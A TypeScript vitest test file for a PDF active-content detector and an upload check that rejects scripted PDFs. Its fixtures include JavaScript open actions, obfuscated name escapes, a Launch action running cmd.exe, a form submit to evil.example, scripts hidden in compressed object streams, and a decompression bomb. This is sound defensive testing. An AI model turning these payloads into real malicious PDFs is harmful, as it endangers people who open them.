import { deflateSync } from 'node:zlib';
import { describe, expect, it } from 'vitest';
import { isActivePdf } from '#api/files/active-pdf.ts';
import { anyDatabase } from '../../support/databases.ts';
import { createFormsApi } from '../submissions/support.ts';

const pdf = (...parts: (string | Buffer)[]): Buffer =>
  Buffer.concat(
    ['%PDF-1.7\n', ...parts, '\ntrailer <</Root 1 0 R>>\n%%EOF\n'].map((part) => Buffer.from(part)),
  );
const catalog = (entries: string) => `1 0 obj\n<</Type /Catalog ${entries}>>\nendobj\n`;
const stream = (dictionary: string, bytes: Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`2 0 obj\n<<${dictionary} /Length ${bytes.length}>>\nstream\r\n`),
    bytes,
    Buffer.from('\nendstream\nendobj\n'),
  ]);
const packed = (text: string, filter = '/Filter /FlateDecode'): Buffer =>
  stream(`/Type /ObjStm /N 1 /First 4 ${filter}`, deflateSync(text));
const script = '3 0 <</S /JavaScript /JS (app.alert(1))>>';

describe('a PDF that acts by itself', () => {
  it.each([
    ['a script at opening', pdf(catalog('/OpenAction <</S /JavaScript /JS (x)>>'))],
    ['a script by its written name', pdf(catalog('/OpenAction <</S /#4aavaScript /J#53 (x)>>'))],
    ['a program', pdf(catalog('/AA <</O <</S /Launch /F (cmd.exe)>>>>'))],
    ['a form that is sent', pdf(catalog('/OpenAction <</S/SubmitForm/F(http://evil.example)>>'))],
    ['a form of XML', pdf(catalog('/AcroForm <</XFA 5 0 R>>'))],
    ['media', pdf('4 0 obj\n<</Type/Annot/Subtype/RichMedia>>\nendobj\n')],
    ['a script in a packed object', pdf(catalog(''), packed(script))],
    ['a script in a list of filters', pdf(packed(script, '/Filter [/FlateDecode]'))],
    [
      'a script behind a filter that hides it',
      pdf(packed(script, '/Filter [/ASCII85Decode /FlateDecode]')),
    ],
    ['objects that inflate without end', pdf(packed(' '.repeat(40_000_000)))],
    [
      'objects that cannot be unpacked',
      pdf(stream('/Type/ObjStm/Filter/FlateDecode', Buffer.from('x'))),
    ],
    [
      'a script in what a comment calls a stream',
      pdf('% stream\n', catalog('/AA <</O <</JS (x)>>>>'), '% endstream\n'),
    ],
    [
      'a script in what a comment calls packed',
      pdf(
        '% <</Filter /FlateDecode>> stream\n',
        catalog('/AA <</S /JavaScript>>'),
        '% endstream\n',
      ),
    ],
    ['a stream without an end', pdf(catalog(''), 'stream\n', script)],
  ])('is known: %s', (_what, bytes) => {
    expect(isActivePdf(bytes)).toBe(true);
  });

  it.each([
    ['a plain page', pdf(catalog('/Pages 2 0 R'))],
    ['one that opens at a page', pdf(catalog('/OpenAction [3 0 R /Fit] /PageMode /UseOutlines'))],
    ['packed objects', pdf(catalog(''), packed('3 0 <</Type /Page /Contents 4 0 R>>'))],
    [
      'packed objects with a predictor',
      pdf(packed('3 0 <</A /URI>>', '/DecodeParms <</Predictor 1>> /Filter /FlateDecode')),
    ],
    ['a text about scripts', pdf(stream('/Filter /FlateDecode', deflateSync('(/JavaScript) Tj')))],
    [
      'packed bytes that look like a short name',
      pdf(stream('/Filter /DCTDecode', Buffer.from('/JS '))),
    ],
    ['longer names', pdf(catalog('/JSX 1 /Launcher 2 /Soundness 3'))],
  ])('is not: %s', (_what, bytes) => {
    expect(isActivePdf(bytes)).toBe(false);
  });

  it('is refused at the field of the file', async () => {
    const client = await createFormsApi(await anyDatabase.open()).newClient();
    const sent = await client.upload(
      pdf(catalog('/OpenAction <</S /JavaScript /JS (x)>>')),
      'a.pdf',
    );
    expect(sent.status).toBe(422);
    expect(sent.body['ResponseMessage']).toMatch(/^a\.pdf holds scripts/);
    expect((await client.upload(pdf(catalog('/Pages 2 0 R')), 'a.pdf')).status).toBe(200);
  });
});
